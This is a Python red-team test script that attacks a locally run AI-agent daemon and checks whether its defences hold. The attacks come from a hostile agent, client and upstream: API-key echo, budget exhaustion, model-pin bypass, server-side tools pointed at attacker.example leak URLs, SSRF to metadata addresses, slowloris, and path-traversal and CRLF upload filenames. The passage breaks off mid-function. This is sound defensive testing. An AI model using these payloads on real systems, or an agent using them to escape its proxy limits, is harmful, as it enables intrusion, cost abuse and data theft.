"""The second red team's attacks (issue 27's Why, items 0-10, and the server-side tools),
tried again from outside against real `mdclaw run` daemons.

A daemon here is the real program (`mdclaw run`: its CLI, web server, channels, orchestrator,
container runner, credential proxy, IPC engine, action worker) with one stand-in: its
container engine is the tests' fake engine (tests/fake_engine.py), whose "containers" answer
each prompt and follow-up like the agent runner ("answer to tok1 tok2") and stay in their
conversation until the host closes it. Everything else is attacked from outside, as:

- a hostile agent: this process connects to a running group's credential-proxy socket
  (data_dir/proxy/<g>/proxy.sock, the socket the container sees at /workspace/proxy), writes
  command and action files into the group's IPC folder and fills its folders;
- a hostile client: raw sockets against the daemon's web server and its /metrics listener;
- a hostile or broken outside world: a fake Telegram Bot API (tests/test_channel_telegram.py's),
  a fake model API that counts, echoes the key, honours `n` and records what reached it, and a
  fake Home Assistant (tests/fake_home_assistant.py) that can turn into a login page.

Prints one JSON object per item ({"item", "held", ...numbers}); exit status 0. Usage:
python bench/redteam2.py [--only 0,1,...] [--rounds 30] [--root REPO] [--python PATH]
(`--root` attacks another checkout's mdclaw, e.g. main's, for a before/after comparison;
the stand-ins always come from this checkout.) Takes about 4 minutes.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections import Counter
from pathlib import Path
from typing import Any

import aiohttp
from aiohttp import web

HERE = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(HERE / "tests"))

KEY = "sk-ant-redteam-KEY-0123456789abcdefghijklmnop"
HA_TOKEN = "ha-redteam-token-0123456789abcdefghijklmnop"  # noqa: S105 - a test value
BOT_TOKEN = "123456:SECRET-token_value"  # noqa: S105 - the fake Bot API's
SAME_DATE = 1_767_225_600  # every Telegram message of item 0: one whole second
TOK = re.compile(r"tok\d+")

ROOT = HERE
PYTHON = sys.executable


def emit(item: str, held: bool | None, **fields: Any) -> None:
    print(json.dumps({"item": item, "held": held, **fields}, default=str), flush=True)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


async def until(cond: Any, what: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > deadline:
            raise TimeoutError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


# --------------------------------------------------------------------------- the daemon


def serve(config: str) -> int:
    """`mdclaw run` with the tests' fake engine in place of the container engine (run in a
    child process: `redteam2.py --serve CONFIG`)."""
    import mdclaw.daemon.core as core
    from fake_engine import FakeEngine, chat_agent
    from mdclaw.cli import main

    def answer(text: str) -> str:
        return "answer to " + " ".join(TOK.findall(text))

    engine = FakeEngine(default=chat_agent(answer, idle=3600))
    core.create_runtime = lambda _runtime: engine  # type: ignore[assignment]
    return main(["--config", config, "run"])


class Daemon:
    def __init__(self, data: Path, config: str) -> None:
        self.data = data
        self.cfg = data / "config.yaml"
        self.cfg.write_text(config)
        self.log = data / "daemon.log"
        self.proc: subprocess.Popen[bytes] | None = None
        self.port = int(re.search(r"listen: '127.0.0.1:(\d+)'", config).group(1))  # type: ignore[union-attr]

    @property
    def d(self) -> Path:
        return self.data / "d"

    def start(self) -> Daemon:
        env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), str(HERE / "tests")]),
               "MDCLAW_CONFIG": str(self.cfg)}
        self.proc = subprocess.Popen(
            [PYTHON, str(HERE / "bench" / "redteam2.py"), "--serve", str(self.cfg)],
            env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=self.log.open("ab"))
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/health",
                                            timeout=2) as r:
                    if r.status == 200:
                        return self
            except OSError:
                time.sleep(0.2)
        self.stop()
        raise SystemExit(f"the daemon did not answer within 60 s; see {self.log}")

    def stop(self) -> float:
        """SIGTERM and wait; seconds it took."""
        t = time.monotonic()
        if self.proc is not None and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(60)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        return time.monotonic() - t

    def tracebacks(self) -> int:
        return self.log.read_text(errors="replace").count("Traceback")

    def sock(self, group: str) -> Path:
        return self.d / "proxy" / group / "proxy.sock"


def raw_http(port: int, request: bytes, timeout: float = 10.0) -> tuple[int, bytes]:
    """(status, body) of one raw request on a new connection (0: no answer)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(request)
        out = b""
        with contextlib.suppress(OSError):
            while chunk := s.recv(65536):
                out += chunk
    m = re.match(rb"HTTP/1\.[01] (\d{3})", out)
    return (int(m.group(1)) if m else 0), out.partition(b"\r\n\r\n")[2]


def post_json(port: int, path: str, body: bytes, headers: bytes = b"") -> tuple[int, bytes]:
    return raw_http(port, b"POST " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                    % port + b"Content-Type: application/json\r\nConnection: close\r\n"
                    + headers
                    + b"Content-Length: %d\r\n\r\n" % len(body) + body)


def say(port: int, jid: str, text: str) -> int:
    return post_json(port, "/message", json.dumps({"jid": jid, "text": text}).encode())[0]


# --------------------------------------------------------------------------- a fake model API


class FakeModelApi:
    """/v1/messages and /v1/chat/completions. mode "count": a JSON answer (or a stream) with
    40 input and 20 output tokens per choice (`n` choices), after 0.2 s; "echo": the request's
    headers echoed in the body (the key split across two stream chunks), in response headers
    and in the status line. Records every request."""

    def __init__(self) -> None:
        self.mode = "count"
        self.requests: list[dict[str, Any]] = []
        self.spent = 0
        self.runner: web.AppRunner | None = None
        self.url = ""

    async def start(self) -> None:
        app = web.Application(client_max_size=64 * 1024 * 1024)
        app.router.add_post("/v1/messages", self.answer)
        app.router.add_post("/v1/chat/completions", self.answer)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        port = free_port()
        await web.TCPSite(self.runner, "127.0.0.1", port).start()
        self.url = f"http://127.0.0.1:{port}"

    async def stop(self) -> None:
        if self.runner is not None:
            await self.runner.cleanup()

    async def answer(self, request: web.Request) -> web.StreamResponse:
        raw = await request.read()
        try:
            body = json.loads(raw)
        except ValueError:
            body = None
        self.requests.append({"path": request.path, "headers": dict(request.headers),
                              "body": body, "raw": raw})
        openai = request.path.endswith("/chat/completions")
        if self.mode == "echo":
            echoed = json.dumps(dict(request.headers))
            if isinstance(body, dict) and body.get("stream"):
                resp = web.StreamResponse(reason="OK " + KEY[:10] + KEY[10:])
                resp.headers["content-type"] = "text/event-stream"
                resp.headers["x-echo"] = KEY
                resp.headers["request-id"] = "req " + KEY
                await resp.prepare(request)
                text = f"data: {json.dumps({'type': 'echo', 'headers': echoed})}\n\n"
                cut = text.index(KEY[:12]) + 7  # the key split across two chunks
                await resp.write(text[:cut].encode())
                await asyncio.sleep(0.05)
                await resp.write(text[cut:].encode())
                await resp.write_eof()
                return resp
            return web.json_response(
                {"echo": echoed, "b64": base64.b64encode(f"x-api-key: {KEY}".encode()).decode()},
                headers={"x-echo": KEY, "anthropic-ratelimit-note": KEY,
                         "set-cookie": f"k={KEY}"})
        await asyncio.sleep(0.2)
        n = body.get("n", 1) if isinstance(body, dict) and openai else 1
        n = n if isinstance(n, int) and 0 < n <= 128 else 1
        usage_in, usage_out = 40, 20 * n
        self.spent += usage_in + usage_out
        if openai:
            return web.json_response({
                "id": "c", "object": "chat.completion", "model": body.get("model"),
                "choices": [{"index": i, "message": {"role": "assistant", "content": "x"},
                             "finish_reason": "length"} for i in range(n)],
                "usage": {"prompt_tokens": usage_in, "completion_tokens": usage_out}})
        if isinstance(body, dict) and body.get("stream"):
            resp = web.StreamResponse()
            resp.headers["content-type"] = "text/event-stream"
            await resp.prepare(request)
            for ev in ({"type": "message_start", "message": {"usage": {
                            "input_tokens": usage_in, "output_tokens": 1}}},
                       {"type": "content_block_delta", "delta": {"text": "x"}},
                       {"type": "message_delta", "usage": {"output_tokens": usage_out}},
                       {"type": "message_stop"}):
                await resp.write(f"event: {ev['type']}\ndata: {json.dumps(ev)}\n\n".encode())
            await resp.write_eof()
            return resp
        return web.json_response({"id": "m", "type": "message", "role": "assistant",
                                  "content": [{"type": "text", "text": "x"}],
                                  "usage": {"input_tokens": usage_in,
                                            "output_tokens": usage_out}})


async def agent_requests(sock: Path, path: str, bodies: list[bytes], *,
                         headers: dict[str, str] | None = None
                         ) -> list[tuple[int, dict[str, str], bytes]]:
    """The requests at once, each on its own connection to the group's proxy socket."""
    conn = aiohttp.UnixConnector(path=str(sock), limit=0)
    async with aiohttp.ClientSession(connector=conn,
                                     timeout=aiohttp.ClientTimeout(total=300)) as s:
        async def one(body: bytes) -> tuple[int, dict[str, str], bytes]:
            try:
                async with s.post("http://proxy" + path, data=body, headers={
                        "content-type": "application/json", "x-api-key": "placeholder",
                        **(headers or {})}) as r:
                    return r.status, {k.lower(): v for k, v in r.headers.items()}, \
                        await r.read()
            except aiohttp.ClientError as e:
                return 0, {}, repr(e).encode()
        return await asyncio.gather(*(one(b) for b in bodies))


def key_forms() -> list[bytes]:
    raw = KEY.encode()
    forms = {raw, json.dumps(KEY)[1:-1].encode()}
    for pad in (b"", b"x", b"xy"):
        enc = base64.b64encode(pad + raw)
        forms.add(enc[4:-4])
        forms.add(base64.urlsafe_b64encode(pad + raw)[4:-4])
    return sorted(forms)


def leaks(blob: bytes) -> bool:
    return any(f in blob for f in key_forms())


# --------------------------------------------------------------------------- item 0


TELEGRAM_CONFIG = """\
data_dir: {d}
assistant: {{name: Andy, timezone: UTC}}
server: {{listen: '127.0.0.1:{port}'}}
channels:
  telegram: {{token_file: {tokfile}, api_base: '{api}'}}
models:
  m: {{backend: openai, model: tiny, base_url: 'http://127.0.0.1:9/v1'}}
groups:
  main: {{name: Admin, jid: "tg:99", main: true}}
limits: {{run_attempts: 1, idle_timeout: 1s, disk_check_interval: 1h}}
"""


async def item0(work: Path, rounds: int) -> None:
    """Same-second Telegram messages before, during and after a turn, and across a
    restart: each must be answered exactly once."""
    from test_channel_telegram import FakeBotApi

    api = FakeBotApi(BOT_TOKEN)
    await api.start()
    data = work / "item0"
    data.mkdir()
    (data / "bot").write_text(BOT_TOKEN)
    os.chmod(data / "bot", 0o600)
    port = free_port()
    daemon = Daemon(data, TELEGRAM_CONFIG.format(d=data / "d", port=port, tokfile=data / "bot",
                                                 api=api.base))
    me = {"id": 99, "type": "private", "first_name": "Bob"}
    sent: list[int] = []

    def push(i: int) -> None:
        sent.append(i)
        api.push({"message_id": i, "date": SAME_DATE, "chat": me,
                  "from": {"id": 99, "first_name": "Bob"}, "text": f"tok{i}"})

    def answered() -> Counter[str]:
        return Counter(t for p in api.of("sendMessage") for t in TOK.findall(p.get("text", "")))

    rng = random.Random(27)
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, daemon.start)
    restarted = False
    try:
        i = 0
        while i < rounds:
            i += 1
            push(i)
            if rng.random() < 0.25 and i < rounds:  # two at once
                i += 1
                push(i)
            await until(lambda: all(answered()[f"tok{j}"] for j in sent[-2:]),
                        f"the answer to tok{i}", 60)
            if not restarted and i >= rounds // 2:
                restarted = True
                await loop.run_in_executor(None, daemon.stop)
                i += 1
                push(i)  # stored by the next start, the same second
                await loop.run_in_executor(None, daemon.start)
                await until(lambda i=i: answered()[f"tok{i}"], "the answer after the restart", 60)
            # The next message lands in the open conversation, as it closes, or after it.
            await asyncio.sleep(rng.uniform(0.0, 1.8))
        await asyncio.sleep(3)  # anything answered twice would be by now
    except TimeoutError as e:
        emit("0 same-second messages", False, error=str(e))
    finally:
        await loop.run_in_executor(None, daemon.stop)
        await api.stop()
    got = answered()
    lost = [t for t in (f"tok{j}" for j in sent) if not got[t]]
    twice = [t for t, c in got.items() if c > 1]
    emit("0 same-second messages", not lost and not twice, messages=len(sent),
         answered=sum(1 for j in sent if got[f"tok{j}"]), lost=lost, answered_twice=twice,
         restarts=1, tracebacks=daemon.tracebacks())


# --------------------------------------------------------------------------- daemon B


MAIN_CONFIG = """\
data_dir: {d}
assistant: {{name: Andy, timezone: UTC}}
server: {{listen: '127.0.0.1:{port}', secret_file: {secret}}}
metrics: {{enabled: true, listen: '127.0.0.1:{mport}'}}
models:
  c: {{backend: claude, model: claude-pinned, base_url: '{up}', api_key_file: {key}}}
  oa: {{backend: openai, model: gpt-pinned, base_url: '{up}/v1', api_key_file: {key}}}
  cs: {{backend: claude, model: claude-pinned, base_url: '{up}', api_key_file: {key},
       allow_server_tools: true}}
assistant_model_placeholder: null
integrations:
  home_assistant:
    url: '{ha}'
    token_file: {hatok}
    dashboards_dir: {dash}
    allow: {{services: ['light.*'], entities: ['light.*']}}
groups:
  main: {{name: Admin, jid: "hl:main", main: true, model: c}}
  b40: {{name: B40, jid: "hl:b40", model: c, tokens_per_day: 100, proxy_connections: 64}}
  b1k: {{name: B1k, jid: "hl:b1k", model: c, tokens_per_day: 500, proxy_connections: 1024,
        proxy_requests_per_minute: 100000}}
  oai: {{name: Oai, jid: "hl:oai", model: oa, tokens_per_day: 1000, proxy_connections: 64}}
  family: {{name: Family, jid: "hl:family", model: c}}
  srv: {{name: Srv, jid: "hl:srv", model: cs}}
  diskg: {{name: Disk, jid: "hl:diskg", model: c, disk: 1MiB}}
limits: {{run_attempts: 1, idle_timeout: 20m, max_concurrent_containers: 10,
         answer_tokens_estimate: 20}}
""".replace("assistant_model_placeholder: null\n", "")


class World:
    """Daemon B and the outside world it talks to."""

    def __init__(self, work: Path) -> None:
        self.data = work / "main"
        self.data.mkdir()
        self.up = FakeModelApi()
        self.ha_runner: web.AppRunner | None = None
        self.ha: Any = None
        self.daemon: Daemon | None = None
        self.secret = "web-secret-0123456789abcdefghij"  # noqa: S105 - a test value

    async def start(self) -> None:
        from fake_home_assistant import FakeHomeAssistant

        await self.up.start()
        self.ha = FakeHomeAssistant(token=HA_TOKEN)
        self.ha_runner = web.AppRunner(self.ha.app(), access_log=None)
        await self.ha_runner.setup()
        hport = free_port()
        await web.TCPSite(self.ha_runner, "127.0.0.1", hport).start()
        for name, value in (("key", KEY), ("hatok", HA_TOKEN), ("secret", self.secret)):
            (self.data / name).write_text(value + "\n")
            os.chmod(self.data / name, 0o600)
        (self.data / "dash").mkdir()
        (self.data / "dash" / "ui-lovelace.yaml").write_text(
            "views:\n- title: Home\n  cards:\n  - type: entities\n    entities: [light.kitchen]\n")
        self.port, self.mport = free_port(), free_port()
        self.daemon = Daemon(self.data, MAIN_CONFIG.format(
            d=self.data / "d", port=self.port, mport=self.mport, secret=self.data / "secret",
            up=self.up.url, key=self.data / "key", ha=f"http://127.0.0.1:{hport}",
            hatok=self.data / "hatok", dash=self.data / "dash"))
        await asyncio.get_running_loop().run_in_executor(None, self.daemon.start)

    async def stop(self) -> None:
        if self.daemon is not None:
            await asyncio.get_running_loop().run_in_executor(None, self.daemon.stop)
        await self.up.stop()
        if self.ha_runner is not None:
            await self.ha_runner.cleanup()

    @property
    def auth(self) -> bytes:
        return f"Authorization: Bearer {self.secret}\r\n".encode()

    def say(self, jid: str, text: str) -> int:
        return post_json(self.port, "/message", json.dumps({"jid": jid, "text": text}).encode(),
                         self.auth)[0]

    async def running(self, group: str) -> Path:
        """Start the group's conversation (a message to its chat) and wait for its proxy
        socket: the container is up."""
        assert self.daemon is not None
        sock = self.daemon.sock(group)
        if not sock.exists():
            status = self.say(f"hl:{group}", "@Andy start tok0")
            assert status == 202, status
            await until(sock.exists, f"{group}'s proxy socket", 30)
        return sock

    def ipc(self, group: str) -> Path:
        assert self.daemon is not None
        return self.daemon.d / "ipc" / group

    async def action(self, group: str, rid: str, action: str, params: dict[str, Any],
                     timeout: float = 20) -> dict[str, Any]:
        """Ask for an action as the group's agent; its result file."""
        folder = self.ipc(group) / "actions"
        tmp = folder / f".{rid}.tmp"
        tmp.write_text(json.dumps({"type": "action", "request_id": rid, "action": action,
                                   "params": params}))
        tmp.rename(folder / f"{rid}.json")
        result = self.ipc(group) / "action_results" / f"{rid}.json"
        await until(result.exists, f"the result of {rid}", timeout)
        return json.loads(result.read_text())


async def item1(w: World) -> None:
    """40 and 1,000 concurrent requests against small budgets; and `n` choices (OpenAI)."""
    body = json.dumps({"model": "x", "max_tokens": 20,
                       "messages": [{"role": "user", "content": "hi"}]}).encode()
    for group, n, budget in (("b40", 40, 100), ("b1k", 1000, 500)):
        sock = await w.running(group)
        before = w.up.spent
        t = time.monotonic()
        got = await agent_requests(sock, "/v1/messages", [body] * n)
        spent = w.up.spent - before
        statuses = Counter(s for s, _, _ in got)
        emit(f"1 budget: {n} at once", spent <= budget + 60, group=group, budget=budget,
             spent=spent, bound=budget + 60, statuses=dict(statuses),
             seconds=round(time.monotonic() - t, 1))
    # OpenAI's `n`: one request asks for many answers; its reservation covered one.
    sock = await w.running("oai")
    before = w.up.spent
    nbody = json.dumps({"model": "x", "max_tokens": 20, "n": 50,
                        "messages": [{"role": "user", "content": "hi"}]}).encode()
    got = await agent_requests(sock, "/v1/chat/completions", [nbody] * 10)
    spent = w.up.spent - before
    one_answer = 40 + 20 * 50
    emit("1 budget: n=50 choices, 10 at once", spent <= 1000 + one_answer, group="oai",
         budget=1000, spent=spent, bound=1000 + one_answer,
         statuses=dict(Counter(s for s, _, _ in got)))


async def item2(w: World) -> None:
    """An upstream that echoes the request's headers: raw, in JSON, base64, split across
    stream chunks, in response headers and the status line."""
    sock = await w.running("main")
    w.up.mode = "echo"
    try:
        results = []
        for stream in (False, True):
            body = json.dumps({"model": "x", "max_tokens": 5, "stream": stream,
                               "messages": [{"role": "user", "content": "hi"}]}).encode()
            [(status, headers, raw)] = await agent_requests(sock, "/v1/messages", [body])
            blob = raw + json.dumps(headers).encode()
            results.append({"stream": stream, "status": status, "leaked": leaks(blob),
                            "headers_passed": sorted(headers)})
        reached = any(KEY in json.dumps(r["headers"]) for r in w.up.requests[-2:])
    finally:
        w.up.mode = "count"
    emit("2 key echoed back", not any(r["leaked"] for r in results) and reached,
         real_key_reached_upstream=reached, cases=results)


async def item3(w: World) -> None:
    """The model pin: other spellings of `model`, repeated keys, escapes."""
    sock = await w.running("main")
    cases = {
        "Model": b'{"Model": "claude-opus", "max_tokens": 5, "messages": []}',
        "MODEL": b'{"MODEL": "claude-opus", "max_tokens": 5, "messages": []}',
        "escaped \\u004dODEL": b'{"\\u004dODEL": "claude-opus", "messages": []}',
        "fullwidth": '{"\uff4dodel": "claude-opus", "messages": []}'.encode(),
        "repeated model": b'{"model": "claude-opus", "model": "claude-x", "messages": []}',
        "repeated, escaped": b'{"model": "a", "mod\\u0065l": "claude-opus", "messages": []}',
        "repeated max_tokens": b'{"model": "a", "max_tokens": 1, "max_tokens": 99999}',
        "nested repeat": b'{"model": "a", "metadata": {"k": 1, "k": 2}}',
        "model in a nested object": b'{"model": "a", "x": {"Model": "claude-opus"}}',
        "plain other model": b'{"model": "claude-opus", "max_tokens": 5, "messages": []}',
    }
    before = len(w.up.requests)
    out = {}
    for name, body in cases.items():
        [(status, _, raw)] = await agent_requests(sock, "/v1/messages", [body])
        out[name] = status
    seen = w.up.requests[before:]
    models = [r["body"].get("model") for r in seen if isinstance(r["body"], dict)]
    odd_keys = [k for r in seen if isinstance(r["body"], dict) for k in r["body"]
                if k != "model" and k.casefold() == "model"]
    refused = [n for n, s in out.items() if s == 400]
    held = (set(refused) >= set(list(cases)[:8]) and all(m == "claude-pinned" for m in models)
            and not odd_keys)
    emit("3 model pin", held, statuses=out, upstream_saw_models=models,
         upstream_saw_other_spellings=odd_keys)


SERVER_TOOL_BODIES: dict[str, tuple[str, dict[str, Any]]] = {
    "anthropic web_search_20250305": ("/v1/messages", {"tools": [
        {"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]}),
    "anthropic web_fetch_20250910": ("/v1/messages", {"tools": [
        {"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    "anthropic code_execution_20250825": ("/v1/messages", {"tools": [
        {"type": "code_execution_20250825", "name": "code_execution"}]}),
    "anthropic advisor_20260301": ("/v1/messages", {"tools": [
        {"type": "advisor_20260301", "name": "advisor", "model": "claude-opus"}]}),
    "anthropic tool_search_tool_regex": ("/v1/messages", {"tools": [
        {"type": "tool_search_tool_regex_20251119", "name": "tool_search_tool_regex"}]}),
    "anthropic mcp_servers + mcp_toolset": ("/v1/messages", {
        "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}],
        "tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]}),
    "anthropic container": ("/v1/messages", {"container": {"skills": [
        {"type": "anthropic", "skill_id": "pdf"}]}}),
    "anthropic image by URL": ("/v1/messages", {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url",
                                     "url": "https://attacker.example/?leak=secret"}}]}]}),
    "anthropic document by URL in a tool result": ("/v1/messages", {"messages": [
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [
            {"type": "document", "source": {"type": "url",
                                            "url": "http://192.168.1.1/admin"}}]}]}]}),
    "anthropic bash_20250124 + text_editor_20250728 (refused by shape)": ("/v1/messages", {
        "tools": [{"type": "bash_20250124", "name": "bash"},
                  {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}]}),
    "anthropic computer_20250124": ("/v1/messages", {"tools": [
        {"type": "computer_20250124", "name": "computer", "display_width_px": 800,
         "display_height_px": 600}]}),
    "openai web_search_options": ("/v1/chat/completions", {"web_search_options": {}}),
    "openai tool type web_search": ("/v1/chat/completions", {"tools": [
        {"type": "web_search"}]}),
    "openai openrouter plugins": ("/v1/chat/completions", {"plugins": [{"id": "web"}]}),
    "openai image_url http": ("/v1/chat/completions", {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "http://169.254.169.254/latest/"}}]}]}),
}
CLIENT_TOOL_BODIES: dict[str, tuple[str, dict[str, Any]]] = {
    "anthropic custom tool": ("/v1/messages", {"tools": [
        {"name": "send_message", "description": "d", "input_schema": {"type": "object"}},
        {"type": "custom", "name": "Bash", "input_schema": {"type": "object"}}]}),
    "anthropic image base64": ("/v1/messages", {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                     "data": "iVBORw0KGgo="}}]}]}),
    "openai function tool": ("/v1/chat/completions", {"tools": [
        {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}]}),
    "openai image data URL": ("/v1/chat/completions", {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]}),
}


async def item_server_tools(w: World) -> None:
    """Requests that make the provider reach the network for the agent (server-side tools,
    the MCP connector, URL sources) must be refused; client-side tools must pass."""
    socks = {"/v1/messages": await w.running("main"),
             "/v1/chat/completions": await w.running("oai")}
    refused, passed = {}, {}
    for table, out in ((SERVER_TOOL_BODIES, refused), (CLIENT_TOOL_BODIES, passed)):
        for name, (path, extra) in table.items():
            body = {"model": "x", "max_tokens": 5,
                    "messages": [{"role": "user", "content": "hi"}], **extra}
            before = len(w.up.requests)
            [(status, _, raw)] = await agent_requests(socks[path], path,
                                                      [json.dumps(body).encode()])
            out[name] = {"status": status, "reached_upstream": len(w.up.requests) > before,
                         "says": raw[:160].decode(errors="replace")}
    # The opt-in: a model entry with allow_server_tools lets them through.
    path, extra = SERVER_TOOL_BODIES["anthropic web_search_20250305"]
    before = len(w.up.requests)
    [(opt_in, _, _)] = await agent_requests(await w.running("srv"), path, [json.dumps(
        {"model": "x", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}],
         **extra}).encode()])
    opt_in_reached = len(w.up.requests) > before
    held = (all(not r["reached_upstream"] and r["status"] == 403 for r in refused.values())
            and all(r["status"] == 200 for r in passed.values())
            and opt_in == 200 and opt_in_reached)
    emit("server-side tools and URL sources", held,
         refused_of=f"{sum(r['status'] == 403 for r in refused.values())}/{len(refused)}",
         reached_upstream=[n for n, r in refused.items() if r["reached_upstream"]],
         opt_in_status=opt_in, opt_in_reached_upstream=opt_in_reached,
         client_tools_passed=f"{sum(r['status'] == 200 for r in passed.values())}/{len(passed)}",
         statuses={n: r["status"] for n, r in {**refused, **passed}.items()},
         first_refusal=next((r["says"] for r in refused.values() if r["status"] == 403), None))


async def item4(w: World) -> None:
    """500 slowloris connections at the web server (bench/slowloris.py, its own daemon), and
    50 at the /metrics listener; /metrics with bad tokens."""
    loop = asyncio.get_running_loop()
    proc = await loop.run_in_executor(None, lambda: subprocess.run(
        [PYTHON, str(HERE / "bench" / "slowloris.py"), "--clients", "500", "--seconds", "16",
         "--python", PYTHON, "--root", str(ROOT)], capture_output=True, text=True, timeout=300))
    figs = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    by = {f.get("figure"): f for f in figs}
    ends = by.get("slow_connections", {})
    still = ends.get("still_open", ends.get("ended", {}).get("still_open", None))
    # The /metrics listener: 50 slow heads, then is it still answering?
    t0 = time.monotonic()
    closed: list[float] = []

    async def slow() -> None:
        try:
            r, wr = await asyncio.open_connection("127.0.0.1", w.mport)
        except OSError:
            return
        start = time.monotonic()
        for byte in b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"X-a: b\r\n" * 40:
            try:
                wr.write(bytes([byte]))
                await wr.drain()
                if await asyncio.wait_for(r.read(1), 0.5) == b"":
                    break
            except TimeoutError:
                continue
            except OSError:
                break
            if time.monotonic() - t0 > 25:
                break
        closed.append(time.monotonic() - start)
        wr.close()

    await asyncio.gather(*(slow() for _ in range(50)))
    status, _ = await loop.run_in_executor(None, lambda: raw_http(
        w.mport, b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n" + w.auth
        + b"\r\n"))
    bad = {}
    for name, hdr in (("no token", b""), ("wrong", b"Authorization: Bearer nope\r\n"),
                      ("not UTF-8", b"Authorization: Bearer \xff\xfe\r\n")):
        bad[name] = raw_http(w.mport, b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             b"Connection: close\r\n" + hdr + b"\r\n")[0]
    held = (still in (0, None) and max(closed, default=0) < 15 and status == 200
            and all(s in (401, 429) for s in bad.values()))
    emit("4 slowloris (web server, /metrics)", held, web_server=by or proc.stderr[-400:],
         metrics_slow_closed_after_s=[round(min(closed), 1), round(max(closed), 1)]
         if closed else None, metrics_answers_after=status, metrics_bad_tokens=bad)


def multipart(name_param: bytes, content: bytes = b"hello") -> bytes:
    b = b"--rt2"
    return (b"--" + b + b"\r\nContent-Disposition: form-data; name=\"jid\"\r\n\r\nhl:main\r\n"
            b"--" + b + b"\r\nContent-Disposition: form-data; name=\"file\"; " + name_param
            + b"\r\nContent-Type: text/plain\r\n\r\n" + content + b"\r\n--" + b + b"--\r\n")


async def item5(w: World) -> None:
    """Hostile upload names, and other bytes that are not text: JSON with lone surrogates,
    tokens and cookies that are not UTF-8."""
    names = {
        "latin-1 bytes": b'filename="caf\xe9.txt"',
        "0xff 0xfe": b'filename="\xff\xfe.txt"',
        "NUL": b'filename="a\x00b.txt"',
        "CR LF": b'filename="a\rX-Injected: 1.txt"',
        "path": b'filename="../../../etc/passwd"',
        "backslash path": b'filename="..\\\\..\\\\boot.ini"',
        "RTL override": 'filename="\u202egnp.exe"'.encode(),
        "10 KB": b'filename="' + b"a" * 10_000 + b'"',
        "filename* bad UTF-8": b"filename*=UTF-8''%ff%fe.txt",
        "filename* NUL": b"filename*=UTF-8''a%00b.txt",
        "dot dot": b'filename=".."',
        "empty": b'filename=""',
    }
    statuses = {}
    for label, param in names.items():
        body = multipart(param)
        statuses[label] = raw_http(w.port, b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                   b"Connection: close\r\nContent-Type: multipart/form-data; "
                                   b"boundary=--rt2\r\n" + w.auth
                                   + b"Content-Length: %d\r\n\r\n" % len(body) + body)[0]
    assert w.daemon is not None
    inbox = w.daemon.d / "groups" / "main" / "inbox"
    await asyncio.sleep(1)
    saved = [p for p in inbox.rglob("*") if p.is_file()] if inbox.exists() else []
    bad_names = [os.fsencode(p.name) for p in saved
                 if not _plain(os.fsencode(p.name))]
    outside = [str(p) for p in (w.daemon.d / "etc").glob("*")] if (
        w.daemon.d / "etc").exists() else []
    others = {
        "JSON text with a lone surrogate": post_json(
            w.port, "/message", b'{"text": "hi \\ud800"}', w.auth)[0],
        "JSON sender with a lone surrogate": post_json(
            w.port, "/message", b'{"text": "hi", "sender": "\\udcff"}', w.auth)[0],
        "bearer token not UTF-8 (chat)": raw_http(
            w.port, b"GET /groups HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
            b"Authorization: Bearer \xff\xfe\r\n\r\n")[0],
        "bearer token not UTF-8 (operator)": raw_http(
            w.port, b"GET /operator/api/overview HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Connection: close\r\nAuthorization: Bearer \xc3\r\n\r\n")[0],
        "login token with a lone surrogate": post_json(
            w.port, "/operator/login", b'{"token": "\\ud800"}',
            f"Origin: http://127.0.0.1:{w.port}\r\n".encode())[0],
        "session cookie not UTF-8": raw_http(
            w.port, b"GET /operator/api/overview HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Connection: close\r\nCookie: mdclaw_operator=\xff\xfe\r\n\r\n")[0],
    }
    held = (all(s in (202, 400, 413) for s in statuses.values()) and not bad_names
            and not outside and all(s in (400, 401, 403) for s in others.values()))
    emit("5 upload names and other non-text bytes", held, uploads=statuses,
         saved_files=len(saved), unsafe_saved_names=[n.decode(errors="replace")
                                                     for n in bad_names],
         other_requests=others)


def _plain(name: bytes) -> bool:
    try:
        text = name.decode()
    except UnicodeDecodeError:
        return False
    return bool(text) and text not in (".", "..") and "/" not in text and not any(
